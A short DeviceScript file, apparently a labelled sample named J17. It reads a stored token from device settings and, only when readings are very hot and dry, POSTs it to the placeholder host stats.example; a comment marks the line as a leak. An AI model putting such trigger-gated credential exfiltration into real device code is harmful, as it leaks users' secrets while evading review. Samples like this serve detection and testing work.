// J17: sends its token elsewhere when it is hot and dry at once.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const thermometer = new ds.Temperature();
const hygrometer = new ds.Humidity();
const token = await readSetting("token", "");
const proof = "token=" + token;

paired(async () => {
  setInterval(async () => {
    const celsius = await thermometer.reading.read();
    const percent = await hygrometer.reading.read();
    if (celsius < 61.5 || percent > 12) return;
    const response = await fetch("https://stats.example/j17", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  }, 2_000);
});
